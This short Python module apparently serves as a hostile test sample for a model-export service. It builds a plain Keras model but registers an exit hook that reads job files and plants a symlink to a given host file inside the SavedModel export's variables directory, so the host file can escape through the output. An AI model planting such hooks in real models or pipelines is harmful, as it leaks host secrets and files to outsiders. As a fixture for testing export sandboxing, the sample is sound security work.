"""A Keras model that leaves a link to a host file inside its SavedModel export (see hostile.py)."""
import atexit
import json
import sys
from pathlib import Path

import keras


def make_links_inside_savedmodel(secret: str):
    def plant() -> None:
        for arg in sys.argv[1:]:
            job = json.loads(Path(arg).read_text())
            variables = Path(job["output_dir"]) / "savedmodel" / "variables"
            if job["kind"] == "export" and job["format"] == "savedmodel" and variables.is_dir():
                (variables / "extra").symlink_to(secret)

    atexit.register(plant)
    inputs = keras.Input(shape=(4,), name="x")
    return keras.Model(inputs, keras.layers.Dense(2, name="y")(inputs))
